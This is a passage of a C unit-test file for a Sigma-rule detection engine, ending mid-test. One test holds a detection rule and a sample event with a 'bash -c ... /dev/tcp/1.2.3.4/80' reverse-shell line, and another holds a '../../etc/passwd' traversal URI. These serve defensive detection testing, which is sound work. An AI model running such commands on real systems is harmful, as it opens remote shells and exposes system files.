@@ -1,0 +1,1053 @@
+/* Detection engine (engine/detect.h): every modifier's semantics on events
+ * built by hand, log source bucketing, always-evaluated rules, state reuse,
+ * limits, the field map, the real SigmaHQ corpus and the shipped rule pack. */
+#define _GNU_SOURCE
+#include <criterion/criterion.h>
+#include <dirent.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "engine/detect.h"
+#include "test_support.h"
+
+static struct field_registry *reg;
+static struct logsource_table *lt;
+static struct hsdb_cache *cache;
+static struct rule_set *rs;
+static struct detect_state *st;
+static hs_scratch_t *scratch;
+static struct event_fields ef;
+static struct diag d;
+static char tmpdir[64];
+static unsigned n_files;
+
+/* event strings live here (no allocation per event) */
+static char pool[1 << 16];
+static size_t pool_used;
+
+static void setup(void)
+{
+    reg = field_registry_new();
+    lt = logsource_table_new();
+    cache = hsdb_cache_new();
+    diag_init(&d);
+    cr_assert_eq(event_fields_init(&ef, 64, 4096), 0);
+    snprintf(tmpdir, sizeof tmpdir, "/tmp/vigil-detect-XXXXXX");
+    cr_assert_not_null(mkdtemp(tmpdir));
+    n_files = 0;
+}
+
+static void unload(void)
+{
+    detect_state_free(st);
+    st = NULL;
+    if (scratch)
+        hs_free_scratch(scratch);
+    scratch = NULL;
+    detect_free(rs);
+    rs = NULL;
+}
+
+static void teardown(void)
+{
+    unload();
+    for (unsigned i = 0; i < n_files; i++) {
+        char p[128];
+        snprintf(p, sizeof p, "%s/r%03u.yml", tmpdir, i);
+        unlink(p);
+    }
+    char p[128];
+    snprintf(p, sizeof p, "%s/fieldmap.yaml", tmpdir);
+    unlink(p);
+    rmdir(tmpdir);
+    event_fields_free(&ef);
+    diag_free(&d);
+    hsdb_cache_free(cache);
+    logsource_table_free(lt);
+    field_registry_free(reg);
+}
+
+TestSuite(detect, .init = setup, .fini = teardown);
+
+static const char *write_file(const char *name, const char *text)
+{
+    static char p[128];
+    snprintf(p, sizeof p, "%s/%s", tmpdir, name);
+    FILE *f = fopen(p, "w");
+    cr_assert_not_null(f);
+    fputs(text, f);
+    fclose(f);
+    return p;
+}
+
+/* Loads rule text (one file, documents separated by ---) with an optional
+ * field map text and limits. */
+static void load_ex(const char *yaml, const char *fieldmap, const struct detect_limits *lim)
+{
+    unload();
+    char name[32];
+    snprintf(name, sizeof name, "r%03u.yml", n_files++);
+    char path[128];
+    snprintf(path, sizeof path, "%s", write_file(name, yaml));
+    char fm[128] = "";
+    if (fieldmap)
+        snprintf(fm, sizeof fm, "%s", write_file("fieldmap.yaml", fieldmap));
+    const char *paths[] = {path};
+    cr_assert_eq(detect_load(paths, 1, fieldmap ? fm : NULL, reg, lt, lim, cache, &rs, &d), 0);
+    cr_assert_not_null(rs);
+    cr_assert_eq(detect_alloc_scratch(rs, &scratch), 0);
+    cr_assert_not_null(st = detect_state_new(rs));
+}
+
+static void load(const char *yaml)
+{
+    load_ex(yaml, NULL, NULL);
+    if (d.errors)
+        diag_print(&d, stderr);
+    cr_assert_eq(d.errors, 0, "unexpected load error: %s", d.n ? d.entries[0].msg : "");
+}
+
+static const struct diag_entry *first(enum diag_severity sev)
+{
+    for (unsigned i = 0; i < d.n; i++)
+        if (d.entries[i].severity == sev)
+            return &d.entries[i];
+    return NULL;
+}
+
+static uint16_t lsid(const char *product, const char *service, const char *category)
+{
+    struct logsource ls = {0};
+    snprintf(ls.product, sizeof ls.product, "%s", product ? product : "");
+    snprintf(ls.service, sizeof ls.service, "%s", service ? service : "");
+    snprintf(ls.category, sizeof ls.category, "%s", category ? category : "");
+    uint16_t id;
+    cr_assert_eq(logsource_intern(lt, &ls, &id), 0);
+    return id;
+}
+
+static void ev(uint16_t ls)
+{
+    event_fields_reset(&ef);
+    ef.logsource = ls;
+    pool_used = 0;
+}
+
+static field_id fid(const char *name)
+{
+    field_id id;
+    cr_assert_eq(field_registry_intern(reg, name, &id), 0);
+    return id;
+}
+
+static void s(const char *field, const char *val)
+{
+    size_t n = strlen(val);
+    cr_assert_lt(pool_used + n, sizeof pool);
+    memcpy(pool + pool_used, val, n);
+    event_fields_add_str(&ef, fid(field), pool + pool_used, (uint32_t)n);
+    pool_used += n;
+}
+
+static void i64(const char *field, int64_t v) { event_fields_add_int(&ef, fid(field), v); }
+
+static void ip(const char *field, const char *text)
+{
+    struct vigil_ip a;
+    cr_assert(field_parse_ip(text, (uint32_t)strlen(text), &a));
+    event_fields_add_ip(&ef, fid(field), &a);
+}
+
+static uint32_t out[64];
+
+static int eval(void)
+{
+    int n = detect_eval(rs, scratch, st, &ef, out, 64);
+    cr_assert_geq(n, 0);
+    return n;
+}
+
+static bool fires(unsigned rule)
+{
+    int n = eval();
+    for (int i = 0; i < n && i < 64; i++)
+        if (out[i] == rule)
+            return true;
+    return false;
+}
+
+/* One rule on {product: test}, detection body given. */
+static void rule1(const char *detection)
+{
+    char y[8192];
+    snprintf(y, sizeof y, "title: T\nid: 6a7b1c2d-0000-4000-8000-000000000001\nlogsource:\n  product: test\n"
+                          "detection:\n%s",
+             detection);
+    load(y);
+    cr_assert_eq(detect_rule_count(rs), 1);
+}
+
+static uint16_t T; /* the {product: test} log source */
+
+static void ev_t(void)
+{
+    T = lsid("test", NULL, NULL);
+    ev(T);
+}
+
+/* ---- plain values and modifiers ---- */
+
+Test(detect, exact_caseless)
+{
+    rule1("  sel:\n    user.name: Root\n  condition: sel\n");
+    ev_t();
+    s("user.name", "root");
+    cr_expect(fires(0));
+    ev_t();
+    s("user.name", "ROOT");
+    cr_expect(fires(0));
+    ev_t();
+    s("user.name", "rootx");
+    cr_expect_not(fires(0));
+    ev_t();
+    s("user.name", "xroot");
+    cr_expect_not(fires(0));
+    ev_t();
+    cr_expect_not(fires(0), "absent field");
+}
+
+Test(detect, contains_startswith_endswith)
+{
+    load("title: C\nlogsource: {product: test}\ndetection: {s: {f|contains: mid}, condition: s}\n---\n"
+         "title: S\nlogsource: {product: test}\ndetection: {s: {f|startswith: /adm}, condition: s}\n---\n"
+         "title: E\nlogsource: {product: test}\ndetection: {s: {f|endswith: .PHP}, condition: s}\n");
+    cr_assert_eq(detect_rule_count(rs), 3);
+    ev_t();
+    s("f", "/admin/aMIDb.php");
+    cr_expect_eq(eval(), 3);
+    ev_t();
+    s("f", "x/admin/index.phpx");
+    cr_expect_eq(eval(), 0);
+    ev_t();
+    s("f", "/ADM");
+    cr_expect(fires(1));
+    cr_expect_not(fires(0));
+    ev_t();
+    s("f", "mid");
+    cr_expect(fires(0));
+}
+
+Test(detect, wildcards_and_escapes)
+{
+    load("title: W\nlogsource: {product: test}\ndetection: {s: {f: '/adm*/*.php'}, condition: s}\n---\n"
+         "title: Q\nlogsource: {product: test}\ndetection: {s: {f: 'a?c'}, condition: s}\n---\n"
+         "title: Esc\nlogsource: {product: test}\ndetection: {s: {f: 'a\\*c'}, condition: s}\n---\n"
+         "title: Back\nlogsource: {product: test}\ndetection: {s: {f: 'C:\\Win\\'}, condition: s}\n");
+    ev_t();
+    s("f", "/admin/x/y.php");
+    cr_expect(fires(0));
+    ev_t();
+    s("f", "/admin/x/y.phpx");
+    cr_expect_not(fires(0));
+    ev_t();
+    s("f", "/adm\n/.php"); /* wildcards cross newlines */
+    cr_expect(fires(0));
+    ev_t();
+    s("f", "abc");
+    cr_expect(fires(1));
+    cr_expect_not(fires(2));
+    ev_t();
+    s("f", "ac");
+    cr_expect_not(fires(1));
+    ev_t();
+    s("f", "a*c");
+    cr_expect(fires(2));
+    cr_expect(fires(1));
+    ev_t();
+    s("f", "c:\\win\\");
+    cr_expect(fires(3));
+}
+
+Test(detect, cased)
+{
+    rule1("  s:\n    f|contains|cased: Foo\n  condition: s\n");
+    ev_t();
+    s("f", "xFoox");
+    cr_expect(fires(0));
+    ev_t();
+    s("f", "xfoox");
+    cr_expect_not(fires(0));
+}
+
+Test(detect, value_list_or_and_all)
+{
+    load("title: Any\nlogsource: {product: test}\ndetection: {s: {f|contains: [aa, bb]}, condition: s}\n---\n"
+         "title: All\nlogsource: {product: test}\ndetection: {s: {f|contains|all: [aa, bb]}, condition: s}\n");
+    ev_t();
+    s("f", "xxaaxx");
+    cr_expect(fires(0));
+    cr_expect_not(fires(1));
+    ev_t();
+    s("f", "bb..aa");
+    cr_expect(fires(0));
+    cr_expect(fires(1));
+}
+
+Test(detect, map_is_and_list_of_maps_is_or)
+{
+    load("title: And\nlogsource: {product: test}\ndetection: {s: {a: x, b: y}, condition: s}\n---\n"
+         "title: Or\nlogsource: {product: test}\ndetection: {s: [{a: x}, {b: y}], condition: s}\n");
+    ev_t();
+    s("a", "x");
+    cr_expect_not(fires(0));
+    cr_expect(fires(1));
+    s("b", "y");
+    cr_expect(fires(0));
+}
+
+Test(detect, re_case_sensitive_and_flags)
+{
+    load("title: R\nlogsource: {product: test}\ndetection: {s: {f|re: 'ab+c\\d'}, condition: s}\n---\n"
+         "title: RI\nlogsource: {product: test}\ndetection: {s: {f|re|i: '^ab+c$'}, condition: s}\n---\n"
+         "title: RS\nlogsource: {product: test}\ndetection: {s: {f|re|s: 'a.b'}, condition: s}\n---\n"
+         "title: RM\nlogsource: {product: test}\ndetection: {s: {f|re|m: '^b$'}, condition: s}\n");
+    ev_t();
+    s("f", "xxabbbc7");
+    cr_expect(fires(0));
+    ev_t();
+    s("f", "ABBC7");
+    cr_expect_not(fires(0), "re is case-sensitive");
+    ev_t();
+    s("f", "ABBC");
+    cr_expect(fires(1));
+    ev_t();
+    s("f", "a\nb");
+    cr_expect(fires(2));
+    cr_expect(fires(3));
+    ev_t();
+    s("f", "axb");
+    cr_expect(fires(2));
+    cr_expect_not(fires(3));
+}
+
+Test(detect, re_rejected_by_hyperscan)
+{
+    load_ex("title: Good\nlogsource: {product: test}\ndetection: {s: {f: x}, condition: s}\n---\n"
+            "title: Back\nid: back-ref\nlogsource: {product: test}\ndetection: {s: {f|re: '(a)\\1'}, condition: s}\n"
+            "---\n"
+            "title: Look\nid: look\nlogsource: {product: test}\ndetection: {s: {f|re: 'a(?=b)'}, condition: s}\n",
+            NULL, NULL);
+    cr_expect_eq(detect_rule_count(rs), 1);
+    cr_assert_eq(d.errors, 2);
+    const struct diag_entry *e[2];
+    for (unsigned i = 0, k = 0; i < d.n; i++)
+        if (d.entries[i].severity == DIAG_ERROR && k < 2)
+            e[k++] = &d.entries[i];
+    cr_expect_str_eq(e[0]->what, "back-ref");
+    cr_expect(strstr(e[0]->msg, "regular expression '(a)\\1' rejected by Hyperscan"), "%s", e[0]->msg);
+    cr_expect_eq(e[0]->line, 8);
+    cr_expect_str_eq(e[1]->what, "look");
+    cr_expect(strstr(e[1]->msg, "rejected by Hyperscan"));
+    cr_expect_str_eq(detect_rule(rs, 0)->title, "Good");
+}
+
+Test(detect, keywords_on_message)
+{
+    rule1("  keywords:\n    - 'Failed password'\n    - 'Invalid user'\n  condition: keywords\n");
+    ev_t();
+    s("message", "Failed password for root from 1.2.3.4 port 22 ssh2");
+    cr_expect(fires(0));
+    ev_t();
+    s("message", "invalid USER bob");
+    cr_expect(fires(0));
+    ev_t();
+    s("message", "Accepted password for bob");
+    cr_expect_not(fires(0));
+}
+
+Test(detect, keywords_all)
+{
+    rule1("  keywords:\n    '|all':\n      - 'bash -c'\n      - '/dev/tcp/'\n  condition: keywords\n");
+    ev_t();
+    s("message", "bash -c 'x >&/dev/tcp/1.2.3.4/80'");
+    cr_expect(fires(0));
+    ev_t();
+    s("message", "bash -c ls");
+    cr_expect_not(fires(0));
+}
+
+/* ---- numbers, cidr, null, exists ---- */
+
+Test(detect, numeric_comparisons)
+{
+    load("title: GT\nlogsource: {product: test}\ndetection: {s: {n|gt: 400}, condition: s}\n---\n"
+         "title: GTE\nlogsource: {product: test}\ndetection: {s: {n|gte: 400}, condition: s}\n---\n"
+         "title: LT\nlogsource: {product: test}\ndetection: {s: {n|lt: 400}, condition: s}\n---\n"
+         "title: LTE\nlogsource: {product: test}\ndetection: {s: {n|lte: '400'}, condition: s}\n");
+    ev_t();
+    i64("n", 400);
+    int n = eval();
+    cr_expect_eq(n, 2);
+    cr_expect_eq(out[0], 1);
+    cr_expect_eq(out[1], 3);
+    ev_t();
+    s("n", "404"); /* strings holding numbers compare as numbers */
+    n = eval();
+    cr_expect_eq(n, 2);
+    cr_expect_eq(out[0], 0);
+    cr_expect_eq(out[1], 1);
+    ev_t();
+    s("n", " 12 ");
+    cr_expect(fires(2));
+    ev_t();
+    s("n", "4x4");
+    cr_expect_eq(eval(), 0, "not a number");
+    ev_t();
+    cr_expect_eq(eval(), 0, "absent");
+    ev_t();
+    i64("n", -5);
+    cr_expect(fires(2));
+}
+
+Test(detect, numeric_equality_on_strings_and_ints)
+{
+    rule1("  s:\n    sc-status: 404\n  condition: s\n");
+    ev_t();
+    s("sc-status", "404");
+    cr_expect(fires(0));
+    ev_t();
+    i64("sc-status", 404);
+    cr_expect(fires(0));
+    ev_t();
+    i64("sc-status", 4040);
+    cr_expect_not(fires(0));
+    ev_t();
+    s("sc-status", "200");
+    cr_expect_not(fires(0));
+}
+
+Test(detect, cidr_v4_v6)
+{
+    rule1("  s:\n    source.ip|cidr:\n      - 10.0.0.0/8\n      - '2001:db8::/32'\n      - 192.168.1.77/32\n"
+          "  condition: s\n");
+    ev_t();
+    ip("source.ip", "10.200.3.4");
+    cr_expect(fires(0));
+    ev_t();
+    ip("source.ip", "11.0.0.1");
+    cr_expect_not(fires(0));
+    ev_t();
+    ip("source.ip", "2001:db8:1::5");
+    cr_expect(fires(0));
+    ev_t();
+    ip("source.ip", "2001:db9::1");
+    cr_expect_not(fires(0));
+    ev_t();
+    s("source.ip", "192.168.1.77"); /* an address the parser left as text */
+    cr_expect(fires(0));
+    ev_t();
+    s("source.ip", "192.168.1.78");
+    cr_expect_not(fires(0));
+    ev_t();
+    s("source.ip", "not an address");
+    cr_expect_not(fires(0));
+}
+
+Test(detect, cidr_odd_prefix)
+{
+    rule1("  s:\n    a|cidr: 172.16.0.0/12\n  condition: s\n");
+    ev_t();
+    ip("a", "172.31.255.255");
+    cr_expect(fires(0));
+    ev_t();
+    ip("a", "172.32.0.0");
+    cr_expect_not(fires(0));
+}
+
+Test(detect, string_tests_on_ip_and_int_values)
+{
+    rule1("  s:\n    source.ip|startswith: '192.168.'\n  condition: s\n");
+    ev_t();
+    ip("source.ip", "192.168.4.4");
+    cr_expect(fires(0));
+    ev_t();
+    ip("source.ip", "10.168.4.4");
+    cr_expect_not(fires(0));
+}
+
+Test(detect, null_value)
+{
+    rule1("  s:\n    a: x\n    ref: null\n  condition: s\n");
+    ev_t();
+    s("a", "x");
+    cr_expect(fires(0), "absent is null");
+    ev_t();
+    s("a", "x");
+    s("ref", "");
+    cr_expect(fires(0), "empty is null");
+    ev_t();
+    s("a", "x");
+    s("ref", "http://x");
+    cr_expect_not(fires(0));
+}
+
+Test(detect, exists_true_false)
+{
+    load("title: E\nlogsource: {product: test}\ndetection: {s: {a: x, b|exists: true}, condition: s}\n---\n"
+         "title: NE\nlogsource: {product: test}\ndetection: {s: {a: x, b|exists: false}, condition: s}\n");
+    ev_t();
+    s("a", "x");
+    cr_expect_not(fires(0));
+    cr_expect(fires(1));
+    s("b", "");
+    cr_expect(fires(0));
+    cr_expect_not(fires(1));
+}
+
+Test(detect, empty_and_star_values)
+{
+    load("title: Empty\nlogsource: {product: test}\ndetection: {s: {a: ''}, condition: s}\n---\n"
+         "title: Star\nlogsource: {product: test}\ndetection: {s: {a: '*'}, condition: s}\n");
+    ev_t();
+    s("a", "");
+    cr_expect(fires(0));
+    cr_expect(fires(1));
+    ev_t();
+    s("a", "v");
+    cr_expect_not(fires(0));
+    cr_expect(fires(1));
+    ev_t();
+    cr_expect_eq(eval(), 0);
+}
+
+Test(detect, multi_valued_field)
+{
+    rule1("  s:\n    source.ip: 5.6.7.8\n  condition: s\n");
+    ev_t();
+    s("source.ip", "1.2.3.4");
+    s("source.ip", "5.6.7.8");
+    cr_expect(fires(0));
+}
+
+/* ---- conditions ---- */
+
+Test(detect, condition_precedence)
+{
+    /* not a and b or c == ((not a) and b) or c */
+    rule1("  a: {f: a}\n  b: {g: b}\n  c: {h: c}\n  condition: not a and b or c\n");
+    ev_t();
+    s("g", "b");
+    cr_expect(fires(0));
+    ev_t();
+    s("f", "a");
+    s("g", "b");
+    cr_expect_not(fires(0));
+    ev_t();
+    s("f", "a");
+    s("h", "c");
+    cr_expect(fires(0));
+}
+
+Test(detect, one_of_all_of)
+{
+    load("title: One\nlogsource: {product: test}\n"
+         "detection: {sel_a: {f: a}, sel_b: {g: b}, condition: 1 of sel_*}\n---\n"
+         "title: All\nlogsource: {product: test}\n"
+         "detection: {sel_a: {f: a}, sel_b: {g: b}, condition: all of them}\n");
+    ev_t();
+    s("f", "a");
+    cr_expect(fires(0));
+    cr_expect_not(fires(1));
+    s("g", "b");
+    cr_expect(fires(1));
+}
+
+/* ---- bucketing, candidates, state ---- */
+
+Test(detect, logsource_bucketing)
+{
+    load("title: SSHD\nlogsource: {product: linux, service: sshd}\ndetection: {k: [boom], condition: k}\n---\n"
+         "title: Linux\nlogsource: {product: linux}\ndetection: {k: [boom], condition: k}\n---\n"
+         "title: Web\nlogsource: {category: webserver}\ndetection: {k: [boom], condition: k}\n---\n"
+         "title: Any\nlogsource: {}\ndetection: {k: [boom], condition: k}\n");
+    cr_assert_eq(detect_rule_count(rs), 4);
+    ev(lsid("linux", "sshd", NULL));
+    s("message", "boom");
+    int n = eval();
+    cr_expect_eq(n, 3);
+    cr_expect_eq(out[0], 0);
+    cr_expect_eq(out[1], 1);
+    cr_expect_eq(out[2], 3);
+    ev(lsid(NULL, NULL, "webserver"));
+    s("message", "boom");
+    n = eval();
+    cr_expect_eq(n, 2);
+    cr_expect_eq(out[0], 2);
+    cr_expect_eq(out[1], 3);
+    ev(0);
+    s("message", "boom");
+    n = eval();
+    cr_expect_eq(n, 1, "unparsed events see only rules without a log source");
+    cr_expect_eq(out[0], 3);
+    /* a log source interned after the rules loaded takes the slow path */
+    ev(lsid("linux", "cron", NULL));
+    s("message", "boom");
+    n = eval();
+    cr_expect_eq(n, 2);
+    cr_expect_eq(out[0], 1);
+    cr_expect_eq(out[1], 3);
+}
+
+Test(detect, always_evaluated_rules)
+{
+    load("title: NotOnly\nlogsource: {product: test}\ndetection: {filter: {f: x}, condition: not filter}\n---\n"
+         "title: NumOnly\nlogsource: {product: test}\ndetection: {s: {n|gt: 5}, condition: s}\n---\n"
+         "title: NullOnly\nlogsource: {product: test}\ndetection: {s: {r: null}, condition: s}\n---\n"
+         "title: NeedsBit\nlogsource: {product: test}\ndetection: {s: {n|gt: 5}, k: [y], condition: s and k}\n");
+    ev_t();
+    i64("n", 9);
+    int n = eval();
+    cr_expect_eq(n, 3);
+    cr_expect_eq(out[0], 0);
+    cr_expect_eq(out[1], 1);
+    cr_expect_eq(out[2], 2);
+    ev_t();
+    s("f", "x");
+    s("r", "v");
+    cr_expect_eq(eval(), 0);
+    ev_t();
+    i64("n", 9);
+    s("message", "y");
+    cr_expect(fires(3));
+}
+
+Test(detect, state_reuse_no_stale_matches)
+{
+    load("title: A\nlogsource: {product: test}\ndetection: {k: [alpha], condition: k}\n---\n"
+         "title: B\nlogsource: {product: test}\ndetection: {s: {f|contains|all: [one, two]}, condition: s}\n");
+    ev_t();
+    s("message", "alpha");
+    s("f", "one");
+    cr_expect_eq(eval(), 1);
+    ev_t();
+    s("message", "beta");
+    s("f", "two");
+    cr_expect_eq(eval(), 0, "bits of the previous event must be gone");
+    ev_t();
+    s("f", "two one");
+    cr_expect_eq(eval(), 1);
+    cr_expect_eq(out[0], 1);
+}
+
+Test(detect, shared_patterns_and_many_candidates)
+{
+    /* 40 rules with the same test share one pattern; all fire, in order */
+    char *y = malloc(40 * 160);
+    size_t o = 0;
+    for (int i = 0; i < 40; i++)
+        o += (size_t)sprintf(y + o, "%stitle: R%d\nlogsource: {product: test}\ndetection: {s: {m: GET}, condition: s}\n",
+                             i ? "---\n" : "", i);
+    load(y);
+    free(y);
+    ev_t();
+    s("m", "get");
+    uint32_t few[8];
+    int n = detect_eval(rs, scratch, st, &ef, few, 8);
+    cr_expect_eq(n, 40, "count includes what did not fit");
+    for (int i = 0; i < 8; i++)
+        cr_expect_eq(few[i], (uint32_t)i);
+    ev_t();
+    s("m", "post");
+    cr_expect_eq(eval(), 0);
+}
+
+Test(detect, rule_info)
+{
+    load("title: Info\nid: 0e95725d-7320-415d-80f7-004da920fc11\nauthor: Someone\nlevel: critical\n"
+         "tags: [attack.t1110, attack.credential-access]\nlogsource: {product: test}\n"
+         "detection: {k: [a], condition: k}\n---\n"
+         "title: NoId\nlogsource: {product: test}\ndetection: {k: [a], condition: k}\n");
+    const struct rule_info *ri = detect_rule(rs, 0);
+    cr_expect_str_eq(ri->id, "0e95725d-7320-415d-80f7-004da920fc11");
+    cr_expect_eq(ri->uuid[0], 0x0e);
+    cr_expect_eq(ri->uuid[15], 0x11);
+    cr_expect_str_eq(ri->author, "Someone");
+    cr_expect_str_eq(ri->tags, "attack.t1110,attack.credential-access");
+    cr_expect_eq(ri->level, RULE_LEVEL_CRITICAL);
+    cr_expect_eq(ri->line, 1);
+    cr_expect(strstr(ri->file, "r000.yml"));
+    cr_expect_eq(ri->logsource, lsid("test", NULL, NULL));
+    const struct rule_info *r2 = detect_rule(rs, 1);
+    cr_expect_eq(r2->level, RULE_LEVEL_MEDIUM, "default level");
+    cr_expect_eq(r2->line, 9);
+    uint8_t zero[16] = {0};
+    cr_expect_neq(memcmp(r2->uuid, zero, 16), 0, "hash of the title");
+    cr_expect_null(detect_rule(rs, 2));
+}
+
+/* ---- errors, limits, field map ---- */
+
+Test(detect, unsupported_rule_rejected_alone)
+{
+    load_ex("title: Good\nlogsource: {product: test}\ndetection: {k: [a], condition: k}\n---\n"
+            "title: Bad\nid: bad-1\nlogsource: {product: test}\n"
+            "detection:\n  s:\n    CommandLine|base64offset|contains: x\n  condition: s\n",
+            NULL, NULL);
+    cr_expect_eq(detect_rule_count(rs), 1);
+    cr_assert_eq(d.errors, 1);
+    const struct diag_entry *e = first(DIAG_ERROR);
+    cr_expect(strstr(e->file, "r000.yml"));
+    cr_expect_eq(e->line, 10);
+    cr_expect_str_eq(e->what, "bad-1");
+    cr_expect(strstr(e->msg, "unsupported modifier 'base64offset'"));
+}
+
+Test(detect, limit_rules)
+{
+    struct detect_limits lim = {.max_rules = 2, .max_patterns = 0};
+    load_ex("title: A\nlogsource: {product: test}\ndetection: {k: [a], condition: k}\n---\n"
+            "title: B\nlogsource: {product: test}\ndetection: {k: [b], condition: k}\n---\n"
+            "title: C\nlogsource: {product: test}\ndetection: {k: [c], condition: k}\n",
+            NULL, &lim);
+    cr_expect_eq(detect_rule_count(rs), 2);
+    cr_assert_eq(d.errors, 1);
+    cr_expect(strstr(first(DIAG_ERROR)->msg, "rule limit (2) reached"));
+    cr_expect_str_eq(first(DIAG_ERROR)->what, "C");
+}
+
+Test(detect, limit_patterns)
+{
+    struct detect_limits lim = {.max_rules = 0, .max_patterns = 3};
+    load_ex("title: A\nlogsource: {product: test}\ndetection: {k: [a, b], condition: k}\n---\n"
+            "title: Same\nlogsource: {product: test}\ndetection: {k: [a, b], condition: k}\n---\n"
+            "title: C\nlogsource: {product: test}\ndetection: {k: [c, d], condition: k}\n---\n"
+            "title: D\nlogsource: {product: test}\ndetection: {k: [a], condition: k}\n",
+            NULL, &lim);
+    /* A: 2 patterns; Same: shares them; C: would make 4 > 3; D: shares */
+    cr_expect_eq(detect_rule_count(rs), 3);
+    cr_assert_eq(d.errors, 1);
+    cr_expect(strstr(first(DIAG_ERROR)->msg, "pattern limit (3) reached"));
+    ev_t();
+    s("message", "c d");
+    cr_expect_eq(eval(), 0, "the rejected rule left no pattern behind");
+    ev_t();
+    s("message", "a");
+    cr_expect_eq(eval(), 3);
+}
+
+Test(detect, field_map)
+{
+    load_ex("title: Web\nlogsource: {category: webserver}\n"
+            "detection: {s: {c-uri|contains: '../', cs-method: GET}, condition: s}\n---\n"
+            "title: Other\nlogsource: {product: test}\ndetection: {s: {c-uri: x, src_ip: 1.2.3.4}, condition: s}\n",
+            "fields:\n  src_ip: source.ip\n"
+            "logsources:\n  - match: {category: webserver}\n    fields:\n      c-uri: url.original\n"
+            "      cs-method: http.request.method\n",
+            NULL);
+    cr_assert_eq(d.errors, 0);
+    uint16_t web = lsid(NULL, NULL, "webserver");
+    ev(web);
+    s("url.original", "/a/../../etc/passwd");
+    s("http.request.method", "GET");
+    cr_expect(fires(0));
+    ev(web);
+    s("c-uri", "/a/../../etc/passwd");
+    s("http.request.method", "GET");
+    cr_expect_not(fires(0), "mapped away from c-uri");
+    ev_t();
+    s("c-uri", "x"); /* not mapped for this log source */
+    s("source.ip", "1.2.3.4");
+    cr_expect(fires(1));
+}
+
+Test(detect, field_map_errors)
+{
+    const char *p = write_file("fieldmap.yaml", "fields:\n  a: 'not valid'\n");
+    const char *paths[] = {tmpdir};
+    cr_expect_eq(detect_load(paths, 1, p, reg, lt, NULL, cache, &rs, &d), -1);
+    cr_assert_eq(d.errors, 1);
+    cr_expect_eq(d.entries[0].line, 2);
+    cr_expect(strstr(d.entries[0].msg, "not a valid field name"));
+    diag_free(&d);
+    diag_init(&d);
+    p = write_file("fieldmap.yaml", "logsources:\n  - match: {vendor: x}\n    fields: {}\n");
+    cr_expect_eq(detect_load(paths, 1, p, reg, lt, NULL, cache, &rs, &d), -1);
+    cr_expect(strstr(d.entries[0].msg, "'match' keys"));
+}
+
+Test(detect, unknown_field_warning)
+{
+    field_id id;
+    field_registry_intern(reg, "user.name", &id); /* as if a parser produced it */
+    load("title: W\nid: w1\nlogsource: {product: test}\n"
+         "detection: {s: {user.name: a, made.up: b, other.one: c}, condition: s}\n");
+    const struct diag_entry *w = first(DIAG_WARNING);
+    cr_assert_not_null(w);
+    cr_expect_str_eq(w->what, "w1");
+    cr_expect(strstr(w->msg, "made.up, other.one"), "%s", w->msg);
+    cr_expect_null(strstr(w->msg, "user.name"));
+}
+
+Test(detect, invalid_field_name_rejected)
+{
+    load_ex("title: F\nid: f1\nlogsource: {product: test}\ndetection: {s: {'bad field': a}, condition: s}\n", NULL,
+            NULL);
+    cr_expect_eq(detect_rule_count(rs), 0);
+    cr_assert_eq(d.errors, 1);
+    cr_expect(strstr(first(DIAG_ERROR)->msg, "'bad field' is not a valid field name"));
+}
+
+Test(detect, hsdb_cache_reused)
+{
+    const char *y = "title: A\nlogsource: {product: test}\ndetection: {k: [a, b], s: {f: x}, condition: k or s}\n";
+    load(y);
+    unsigned compiled, reused;
+    hsdb_cache_stats(cache, &compiled, &reused);
+    cr_expect_eq(compiled, 2);
+    cr_expect_eq(reused, 0);
+    load(y);
+    hsdb_cache_stats(cache, &compiled, &reused);
+    cr_expect_eq(compiled, 2);
+    cr_expect_eq(reused, 2);
+    ev_t();
+    s("f", "X");
+    cr_expect(fires(0));
+}
+
+Test(detect, empty_rule_set)
+{
+    const char *paths[] = {tmpdir};
+    cr_assert_eq(detect_load(paths, 1, NULL, reg, lt, NULL, cache, &rs, &d), 0);
+    cr_expect_eq(detect_rule_count(rs), 0);
+    cr_assert_eq(detect_alloc_scratch(rs, &scratch), 0);
+    st = detect_state_new(rs);
+    ev(0);
+    s("message", "x");
+    cr_expect_eq(detect_eval(rs, scratch, st, &ef, out, 64), 0);
+}
+
+Test(detect, missing_path)
+{
+    const char *paths[] = {"/nonexistent/rules"};
+    cr_assert_eq(detect_load(paths, 1, NULL, reg, lt, NULL, cache, &rs, &d), 0);
+    cr_expect_eq(d.errors, 1);
+    cr_expect(strstr(d.entries[0].msg, "cannot open"));
+}
+
+/* ---- real rules ---- */
+
+static unsigned count_files(const char *dir)
+{
+    unsigned n = 0;
+    DIR *dh = opendir(dir);
+    cr_assert_not_null(dh, "%s", dir);
+    struct dirent *e;
+    while ((e = readdir(dh))) {
+        if (e->d_name[0] == '.')
+            continue;
+        char p[4096];
+        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
+        struct stat sb;
+        if (stat(p, &sb) != 0)
+            continue;
+        size_t l = strlen(e->d_name);
+        if (S_ISDIR(sb.st_mode))
+            n += count_files(p);
+        else if ((l > 4 && !strcmp(e->d_name + l - 4, ".yml")) || (l > 5 && !strcmp(e->d_name + l - 5, ".yaml")))
+            n++;
+    }
+    closedir(dh);
+    return n;
+}
+
+/* The construct named in a rejection: the message before any detail. */
+static void reason_key(const char *msg, char *out, size_t cap)
+{
+    size_t n = strlen(msg) < cap - 1 ? strlen(msg) : cap - 1;
+    memcpy(out, msg, n);
+    out[n] = '\0';
+    char *q = strchr(out, '\'');
+    if (q && q - out > 8) {
+        char *e = strchr(q + 1, '\'');
+        if (e)
+            e[1] = '\0';
+    }
+}
+
+Test(detect, sigma_corpus)
+{
+    const char *dirs[] = {corpus_path("rules/sigma/rules"), corpus_path("rules/sigma-correlation")};
+    unsigned files = count_files(dirs[0]) + count_files(dirs[1]);
+    cr_assert_gt(files, 100);
+    cr_assert_eq(detect_load(dirs, 2, source_path("configs/rules/fieldmap.yaml"), reg, lt, NULL, cache, &rs, &d), 0);
+    unsigned loaded = detect_rule_count(rs), rejected = 0, skipped = 0;
+    /* every file is accounted for: it loaded a rule, was rejected with a
+     * reason, or was skipped as a correlation rule */
+    char reasons[32][160];
+    unsigned counts[32] = {0}, n_reasons = 0;
+    for (unsigned i = 0; i < d.n; i++) {
+        const struct diag_entry *e = &d.entries[i];
+        if (e->severity == DIAG_ERROR) {
+            rejected++;
+            cr_expect(e->file[0] && e->msg[0]);
+            char key[160];
+            reason_key(e->msg, key, sizeof key);
+            unsigned k;
